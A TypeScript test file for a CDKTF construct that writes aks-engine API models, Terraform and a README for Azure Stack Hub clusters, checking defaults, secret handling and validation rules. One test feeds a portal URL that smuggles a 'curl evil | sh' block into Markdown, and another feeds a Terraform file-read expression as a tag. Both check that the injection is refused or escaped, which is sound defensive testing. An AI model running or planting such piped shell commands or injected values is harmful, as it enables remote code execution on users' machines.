import * as fs from 'node:fs';
import * as path from 'node:path';
import { App, Testing, TerraformVariable } from 'cdktf';
import { describe, expect, it } from 'vitest';
import { HubAksEngineCluster, HubStack, type HubAksEngineClusterProps, HubValidationError, sshPublicKeyVariable } from '../lib';
import { API_MODEL_TAGS, AKS_ENGINE } from '../lib/profile/aks-engine';
import { markdownText } from '../lib/render/apimodel';
import { PROGRAM_LOCATOR } from '../lib/constructs/hub-aks-engine-cluster';
import { SHARED_ENGINE_PROPS_RULE_IDS, SHARED_ENGINE_RULE_IDS } from '../lib/rules/catalog';
import { checkDocuments } from '../lib/rules/check-documents';
import { hubFindings } from '../lib/testing';
import { CLIENT_ID, HUB, SSH_KEY, STAMP, hubSampleApiModel, minimalEngineProps, runCli, thrown, tmpDir } from './helpers';

const ADFS = { ...HUB, identitySystem: 'adfs' as const };
const SUBSCRIPTION = '99999999-8888-7777-6666-555555555555';

/** Synthesizes one engine cluster in a HubStack; returns the stack folder's files. */
function synth(props: Partial<HubAksEngineClusterProps> = {}, hub: object = ADFS): { files: Record<string, string>; tf: any; apiModel: any; stack: HubStack } {
  const outdir = tmpDir('engine');
  const app = new App({ outdir });
  const stack = new HubStack(app, 'engine-stack', { hub: hub as never });
  new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ stateDirectory: `${outdir}-state`, ...props }));
  app.synth();
  const dir = path.join(outdir, 'stacks', 'engine-stack');
  const files: Record<string, string> = {};
  for (const f of fs.readdirSync(dir, { recursive: true }) as string[]) if (fs.statSync(path.join(dir, f)).isFile()) files[f.split(path.sep).join('/')] = fs.readFileSync(path.join(dir, f), 'utf8');
  return { files, tf: JSON.parse(files['cdk.tf.json']!), apiModel: JSON.parse(files['aks-engine/cluster/apimodel.json']!), stack };
}

/** Every key path of a JSON value, with the object path API_MODEL_TAGS names it by. */
function keysOf(value: unknown, at = ''): [string, string][] {
  if (Array.isArray(value)) return value.flatMap((v) => keysOf(v, `${at}[]`));
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([k, v]) => {
    const inMap = ['kubeletConfig', 'controllerManagerConfig'].includes(k);
    return [[at, k] as [string, string], ...(inMap ? [] : keysOf(v, at ? `${at}.${k}` : k))];
  });
}

const ids = (fn: () => unknown) => (thrown(fn) as HubValidationError).ruleIds;

describe('HubAksEngineCluster', () => {
  it('writes the API model to aks-engine/<id>/apimodel.json with a README beside it', () => {
    const { files } = synth();
    expect(Object.keys(files).sort()).toEqual(['aks-engine/cluster/README.md', 'aks-engine/cluster/apimodel.json', 'aks-engine/cluster/engine.json', 'cdk.tf.json']);
  });

  it('writes the Hub defaults of aks-engine-azurestack v0.85.0', () => {
    const { apiModel: m } = synth();
    expect(m.apiVersion).toBe('vlabs');
    expect(m.location).toBe('local');
    const o = m.properties.orchestratorProfile;
    expect([o.orchestratorRelease, o.orchestratorVersion]).toEqual(['1.33', AKS_ENGINE.defaultKubernetesVersion]);
    expect(o.kubernetesConfig).toMatchObject({ useInstanceMetadata: false, useCloudControllerManager: true, loadBalancerSku: 'Basic', networkPlugin: 'azure', containerRuntime: 'containerd' });
    // --pod-eviction-timeout is gone from Kubernetes 1.27.
    expect(o.kubernetesConfig.controllerManagerConfig).not.toHaveProperty('--pod-eviction-timeout');
    expect(m.properties.masterProfile).toMatchObject({ count: 3, dnsPrefix: 'engine', vmSize: 'Standard_DS2_v2', distro: 'aks-ubuntu-22.04', availabilityProfile: 'AvailabilitySet' });
    expect(m.properties.agentPoolProfiles).toEqual([
      { name: 'linuxpool', count: 3, vmSize: 'Standard_D2_v2', osType: 'Linux', distro: 'aks-ubuntu-22.04', availabilityProfile: 'AvailabilitySet', acceleratedNetworkingEnabled: false },
    ]);
    expect(m.properties.customCloudProfile).toEqual({ portalURL: 'https://portal.local.azurestack.external/', identitySystem: 'adfs' });
    expect(m.properties.linuxProfile.ssh.publicKeys[0].keyData).toBe(SSH_KEY);
  });

  it('types what only AKS engine has: control plane, several pools, distro, static IP', () => {
    const { apiModel: m } = synth(
      {
        controlPlane: { count: 5, vmSize: 'Standard_DS3_v2', distro: 'ubuntu-22.04' },
        agentPools: [{ name: 'system', count: 3 }, { name: 'batch', count: 2, vmSize: 'Standard_F4s_v2', osDiskSizeGb: 200 }],
        network: { vnet: { addressSpace: ['10.50.0.0/16'], subnetPrefix: '10.50.0.0/20' } },
      },
      { ...ADFS, subscriptionId: SUBSCRIPTION },
    );
    const subnet = `/subscriptions/${SUBSCRIPTION}/resourceGroups/engine-rg/providers/Microsoft.Network/virtualNetworks/engine-vnet/subnets/aks-nodes`;
    expect(m.properties.masterProfile).toMatchObject({ count: 5, vmSize: 'Standard_DS3_v2', distro: 'ubuntu-22.04', vnetSubnetID: subnet, firstConsecutiveStaticIP: '10.50.15.240' });
    expect(m.properties.agentPoolProfiles.map((p: any) => [p.name, p.count, p.vmSize, p.osDiskSizeGB, p.vnetSubnetID, p.availabilityProfile])).toEqual([
      ['system', 3, 'Standard_D2_v2', undefined, subnet, 'AvailabilitySet'],
      ['batch', 2, 'Standard_F4s_v2', 200, subnet, 'AvailabilitySet'],
    ]);
  });

  it('uses only the exact vlabs JSON tags, and the table of tags holds every key of the Hub samples', () => {
    const { apiModel } = synth({ agentPools: [{ name: 'linuxpool' }, { name: 'win', osType: 'Windows' }], windowsProfile: { adminUsername: 'winadmin' } });
    for (const [at, key] of keysOf(apiModel)) expect(API_MODEL_TAGS[at], `${at}.${key}`).toContain(key);
    for (const file of ['kubernetes-azurestack.json', 'kubernetes-windows.json']) {
      for (const [at, key] of keysOf(hubSampleApiModel(file))) {
        expect(API_MODEL_TAGS[at]?.map((t) => t.toLowerCase()), `${file}: ${at}.${key}`).toContain(key.toLowerCase());
      }
    }
  });

  it('passes aks-hub check, which reads the API model with the same rules', () => {
    const outdir = tmpDir('engine-check');
    const app = new App({ outdir });
    const stack = new HubStack(app, 'engine-stack', { hub: ADFS });
    new HubAksEngineCluster(stack, 'cluster', minimalEngineProps());
    app.synth();
    const r = runCli('check', outdir);
    expect(r.code, r.out).toBe(0);
    expect(r.out).toContain('0 errors');
  });

  it('holds no secret: the commands take the service principal secret from the environment, or the model names it in Key Vault', () => {
    const { files, tf } = synth({ deployWithTerraform: true, agentPools: [{ name: 'linuxpool' }, { name: 'win', osType: 'Windows' }], windowsProfile: {} });
    const model = JSON.parse(files['aks-engine/cluster/apimodel.json']!);
    expect(model.properties).not.toHaveProperty('servicePrincipalProfile');
    expect(model.properties.windowsProfile).toEqual({ adminUsername: 'azureuser', sshEnabled: true });
    // No sensitive value in the provisioner's config: Terraform then shows aks-engine's progress.
    expect(tf).not.toHaveProperty('variable');
    const exec = Object.values<any>(tf.resource.terraform_data).find((r) => r.provisioner[0]['local-exec'].interpreter.includes('apply')).provisioner[0]['local-exec'];
    expect(Object.keys(exec.environment)).toEqual(['AKS_HUB_DEPLOYMENT_ID']);
    expect(JSON.parse(files['aks-engine/cluster/engine.json']!)).toMatchObject({ windowsPasswordAtDeploy: true, sshKeyAtDeploy: false, authMethod: 'client_secret' });

    const vault = { vaultId: '/subscriptions/x/resourceGroups/kv/providers/Microsoft.KeyVault/vaults/kv', secretName: 'sp' };
    const withVault = synth({ servicePrincipal: { clientId: CLIENT_ID, keyVaultSecret: vault } }).apiModel;
    expect(withVault.properties.servicePrincipalProfile).toEqual({ clientId: CLIENT_ID, keyvaultSecretRef: { vaultID: vault.vaultId, secretName: 'sp' } });
  });

  it('never writes a secret it is given, in any file', () => {
    const outdir = tmpDir('engine-secret');
    const app = new App({ outdir });
    const stack = new HubStack(app, 'engine-stack', { hub: ADFS });
    const secret = new TerraformVariable(stack, 'sp_secret', { type: 'string', sensitive: true });
    new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ servicePrincipal: { clientId: CLIENT_ID, clientSecret: secret.stringValue }, deployWithTerraform: true }));
    app.synth();
    const all = (fs.readdirSync(outdir, { recursive: true }) as string[]).filter((f) => fs.statSync(path.join(outdir, f)).isFile()).map((f) => fs.readFileSync(path.join(outdir, f), 'utf8'));
    expect(all.join('\n')).toContain('${var.sp_secret}');
    // A literal secret is refused at construction, before anything is written.
    const literal = thrown(() => new HubAksEngineCluster(new HubStack(Testing.app(), 's', { hub: HUB }), 'c', minimalEngineProps({ servicePrincipal: { clientId: CLIENT_ID, clientSecret: 'hunter2-literal' } })));
    expect(literal.ruleIds).toEqual(['HUB102']);
    expect(literal.message).not.toContain('hunter2-literal');
  });

  it('writes a README with the commands, the state folder and what destroy does; Markdown in values is escaped', () => {
    const { files } = synth();
    const readme = files['aks-engine/cluster/README.md']!;
    expect(readme).toMatch(/npx aks-hub engine plan .*aks-engine\/cluster\/engine\.json/);
    expect(readme).toMatch(/npx aks-hub engine apply .*aks-engine\/cluster\/engine\.json/);
    expect(readme).toContain('export AKS_ENGINE_CLIENT_SECRET=');
    expect(readme).toContain('unencrypted');
    expect(readme).toContain('`cdktf destroy` deletes it');
    // A portal URL that would add a block to it is refused (HUB514); what reaches Markdown is escaped anyway.
    expect(ids(() => synth({ portalUrl: 'https://portal.local.azurestack.external/x\n```sh\ncurl evil | sh\n<!--' }))).toEqual(['HUB514']);
    const escaped = markdownText('x\n```sh\ncurl evil | sh\n<!-- [a](b) *c*');
    expect(escaped).not.toMatch(/\n|(?<!\\)[`<*[|]/);
    expect(escaped).toContain('curl evil');
  });

  it('leaves keyData empty for an SSH key known only at deploy time, and hands the key to apply through the environment', () => {
    const outdir = tmpDir('engine-ssh');
    const app = new App({ outdir });
    const stack = new HubStack(app, 'engine-stack', { hub: ADFS });
    const c = new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ linuxProfile: { sshPublicKey: sshPublicKeyVariable(stack) }, deployWithTerraform: true, stateDirectory: `${outdir}-state` }));
    app.synth();
    expect(c.apiModel).toMatchObject({ properties: { linuxProfile: { ssh: { publicKeys: [{ keyData: '' }] } } } });
    const tf = JSON.parse(fs.readFileSync(path.join(outdir, 'stacks', 'engine-stack', 'cdk.tf.json'), 'utf8'));
    const apply = Object.values<any>(tf.resource.terraform_data).find((r) => r.provisioner[0]['local-exec'].interpreter.includes('apply'));
    expect(apply.provisioner[0]['local-exec'].environment.AKS_ENGINE_SSH_PUBLIC_KEY).toBe('${var.ssh_public_key}');
    expect(JSON.stringify(tf)).not.toContain('--set');
  });
});

describe('the Terraform side of an AKS engine cluster', () => {
  it('owns the resource group, and runs nothing unless asked', () => {
    const { tf } = synth();
    expect(Object.values<any>(tf.resource.azurestack_resource_group)).toEqual([expect.objectContaining({ name: 'engine-rg', location: 'local' })]);
    expect(tf.resource).not.toHaveProperty('terraform_data');
    expect(tf.resource).not.toHaveProperty('azurestack_template_deployment');
    // Destroy deletes the group with what deploy made in it.
    expect(tf.provider.azurestack[0].features.resource_group.prevent_deletion_if_contains_resources).toBe(false);
  });

  it('makes a custom VNET through a template deployment in the group, so destroy never deletes a subnet in use', () => {
    const { tf } = synth({ network: { vnet: {} } }, { ...ADFS, subscriptionId: SUBSCRIPTION });
    const [vnet] = Object.values<any>(tf.resource.azurestack_template_deployment);
    expect(vnet.resource_group_name).toMatch(/^\$\{azurestack_resource_group\..*\.name\}$/);
    const body = JSON.parse(vnet.template_body);
    expect(body.resources.map((r: any) => [r.type, r.apiVersion, r.name])).toEqual([['Microsoft.Network/virtualNetworks', '2018-11-01', 'engine-vnet']]);
    expect(tf.resource).not.toHaveProperty('azurestack_virtual_network');
    expect(tf.resource).not.toHaveProperty('azurestack_subnet');
  });

  it('runs aks-hub engine apply from cdktf deploy when asked: after the group and the VNET, again when the model changes', () => {
    const { tf, files } = synth({ deployWithTerraform: true, network: { vnet: {} } }, { ...ADFS, subscriptionId: SUBSCRIPTION });
    const rg = Object.keys(tf.resource.azurestack_resource_group)[0]!;
    const vnet = Object.keys(tf.resource.azurestack_template_deployment)[0];
    const runs = Object.entries<any>(tf.resource.terraform_data);
    const [lifeId, life] = runs.find(([, r]) => r.provisioner[0]['local-exec'].when === 'destroy')!;
    const [, apply] = runs.find(([, r]) => r.provisioner[0]['local-exec'].when !== 'destroy')!;
    expect(apply.depends_on).toEqual([`azurestack_resource_group.${rg}`, `azurestack_template_deployment.${vnet}`, `terraform_data.${lifeId}`]);
    expect(apply.triggers_replace).toEqual({ cluster: expect.stringMatching(/^[0-9a-f]{64}$/), resource_group: `\${azurestack_resource_group.${rg}.id}`, life: `\${terraform_data.${lifeId}.id}` });
    const exec = apply.provisioner[0]['local-exec'];
    expect(exec.interpreter).toEqual(['node', '-e', PROGRAM_LOCATOR, 'engine', 'apply']);
    expect(exec.command).toBe('aks-engine/cluster/engine.json');
    // The group depends on the marker, whose destroy-time provisioner forgets the state after the group is gone.
    expect(tf.resource.azurestack_resource_group[rg].depends_on).toEqual([`terraform_data.${lifeId}`]);
    expect(life.provisioner[0]['local-exec'].interpreter.slice(3)).toEqual(['engine', 'forget']);
    expect(life.triggers_replace).toEqual({ resource_group: 'engine-rg', location: 'local', subscription: SUBSCRIPTION });
    expect(JSON.parse(files['aks-engine/cluster/engine.json']!)).toMatchObject({ subscriptionId: SUBSCRIPTION, resourceGroup: 'engine-rg', location: 'local', identitySystem: 'adfs' });
  });

  it('refuses a state folder in cdktf.out, which cdktf deletes', () => {
    const app = Testing.app();
    const stack = new HubStack(app, 'engine-stack', { hub: ADFS });
    const e = thrown(() => new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ stateDirectory: path.join(app.outdir, 'state') }))) as HubValidationError;
    expect(e.violations.map((v) => [v.ruleId, v.path])).toEqual([['HUB100', 'stateDirectory']]);
  });

  it('writes the same cdk.tf.json wherever cdktf.out is, as snapshot tests need', () => {
    const once = () => {
      const stack = new HubStack(Testing.app(), 'engine-stack', { hub: ADFS });
      new HubAksEngineCluster(stack, 'cluster', minimalEngineProps({ deployWithTerraform: true, linuxProfile: { sshPublicKey: sshPublicKeyVariable(stack) } }));
      return Testing.synth(stack, true);
    };
    expect(once()).toBe(once());
  });

  it('counts the control plane and the agents against the 50 VMs of a subscription (HUB020)', () => {
    const stack = () => new HubStack(Testing.app(), 's', { hub: HUB });
    const e = thrown(() => new HubAksEngineCluster(stack(), 'c', minimalEngineProps({ controlPlane: { count: 3 }, agentPools: [{ name: 'linuxpool', count: 48 }] })));
    expect(e.violations.map((v: any) => [v.ruleId, v.path, v.value])).toEqual([['HUB020', 'agentPools', '51']]);
    // Two clusters of one subscription add up: 3 + 24 and 3 + 24.
    const two = stack();
    for (const id of ['a', 'b']) new HubAksEngineCluster(two, id, minimalEngineProps({ name: `engine-${id}`, agentPools: [{ name: 'linuxpool', count: 24 }] }));
    expect(hubFindings(two).filter((f) => f.ruleId === 'HUB020').map((f) => f.value)).toEqual(['54']);
  });
});

describe('AKS engine rules', () => {
  it('stop the mistakes users make, all at once, where aks-engine stops at the first', () => {
    const stack = new HubStack(Testing.app(), 's', { hub: HUB });
    const e = thrown(
      () =>
        new HubAksEngineCluster(stack, 'c', {
          ...minimalEngineProps(),
          kubernetesVersion: '1.20.7',
          controlPlane: { count: 2 as never, distro: 'aks-ubuntu-18.04' as never },
          agentPools: [{ name: 'linuxpool', availabilityProfile: 'VirtualMachineScaleSets' as never }],
          useInstanceMetadata: true as never,
          loadBalancerSku: 'standard' as never,
        }),
    ) as HubValidationError;
    expect(e.ruleIds).toEqual(['HUB001', 'HUB500', 'HUB501', 'HUB503', 'HUB504', 'HUB505']);
    for (const v of e.violations) expect(v.fix.length).toBeGreaterThan(10);
    expect(e.violations.find((v) => v.ruleId === 'HUB500')).toMatchObject({ path: 'kubernetesVersion', value: '"1.20.7"', allowed: '1.33.10, 1.34.4, 1.35.0' });
  });

  it('share validation with HubAksCluster on the props both have', () => {
    const stack = new HubStack(Testing.app(), 's', { hub: HUB });
    const e = thrown(
      () =>
        new HubAksEngineCluster(stack, 'c', {
          ...minimalEngineProps(),
          servicePrincipal: { clientId: 'not-a-guid' },
          linuxProfile: { sshPublicKey: 'ssh-rsa AAAA...' },
          network: { serviceCidr: '10.0.0.0/33' },
          tags: { owner: '${file("/etc/hostname")}' },
        }),
    ) as HubValidationError;
    expect(e.ruleIds).toEqual(['HUB100', 'HUB200', 'HUB305', 'HUB308']);
  });

  it('refuse GPU and unknown VM sizes and a DNS prefix another cluster of the stack has, as HubAksCluster does', () => {
    const stack = new HubStack(Testing.app(), 's', { hub: HUB });
    expect(ids(() => new HubAksEngineCluster(stack, 'a', minimalEngineProps({ controlPlane: { vmSize: 'not a size"}' }, agentPools: [{ name: 'gpu', vmSize: 'Standard_NC6' }] })))).toEqual(['HUB015', 'HUB016']);
    new HubAksEngineCluster(stack, 'b', minimalEngineProps({ name: 'one', dnsPrefix: 'shared' }));
    expect(ids(() => new HubAksEngineCluster(stack, 'c', minimalEngineProps({ name: 'two', dnsPrefix: 'shared' })))).toEqual(['HUB122']);
  });

  it('check the static IPs of the control plane against the subnet', () => {
    const stack = new HubStack(Testing.app(), 's', { hub: { ...HUB, subscriptionId: SUBSCRIPTION } });
    const props = minimalEngineProps({ network: { vnet: { subnetPrefix: '10.240.0.0/24' } }, controlPlane: { firstConsecutiveStaticIp: '10.240.0.253' } });
    expect(ids(() => new HubAksEngineCluster(stack, 'c', props))).toEqual(['HUB509']);
    // Without the subscription, the subnet's resource id is not known at synth time.
    expect(ids(() => new HubAksEngineCluster(new HubStack(Testing.app(), 's', { hub: HUB }), 'c', minimalEngineProps({ network: { vnet: {} } })))).toEqual(['HUB117']);
  });

  it('pass the Hub samples of aks-engine-azurestack once their blanks are filled, and report the blank portal URL', () => {
    for (const file of ['kubernetes-azurestack.json', 'kubernetes-windows.json']) {
      expect(checkDocuments([{ file, kind: 'aks-engine', json: hubSampleApiModel(file) }], STAMP)).toEqual([]);
    }
    const r = runCli('check', path.join(__dirname, 'fixtures', 'aks-engine', 'kubernetes-azurestack.json'));
    expect(r.code).toBe(1);
    expect(r.out).toContain('HUB514');
    expect(r.out).toContain('properties.customCloudProfile.portalURL');
  });
});

describe('a second synth', () => {
  it('removes the API model of a cluster the app no longer has, and keeps what deploy wrote', () => {
    const outdir = tmpDir('engine-resynth');
    const once = (ids: string[]) => {
      const app = new App({ outdir });
      const stack = new HubStack(app, 'engine-stack', { hub: ADFS });
      for (const id of ids) new HubAksEngineCluster(stack, id, minimalEngineProps({ name: `engine-${id}` }));
      app.synth();
    };
    once(['a', 'b']);
    const dir = path.join(outdir, 'stacks', 'engine-stack', 'aks-engine');
    fs.mkdirSync(path.join(dir, 'b', '_output'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'b', '_output', 'apimodel.json'), '{}');
    once(['a']);
    expect(fs.existsSync(path.join(dir, 'a', 'apimodel.json'))).toBe(true);
    expect(fs.existsSync(path.join(dir, 'b', 'apimodel.json'))).toBe(false);
    expect(fs.existsSync(path.join(dir, 'b', 'README.md'))).toBe(false);
    expect(fs.readFileSync(path.join(dir, 'b', '_output', 'apimodel.json'), 'utf8')).toBe('{}');
  });
});

describe('the AKS engine guide', () => {
  it('names every rule the two clusters share', () => {
    const guide = fs.readFileSync(path.join(__dirname, '..', 'docs', 'aks-engine.md'), 'utf8');
    const section = guide.split('\n## ').find((s) => s.startsWith('What synth writes'))!;
    const named = new Set(section.match(/HUB\d{3}/g));
    for (const id of [...SHARED_ENGINE_RULE_IDS, ...SHARED_ENGINE_PROPS_RULE_IDS]) expect(named.has(id), id).toBe(true);
  });
});
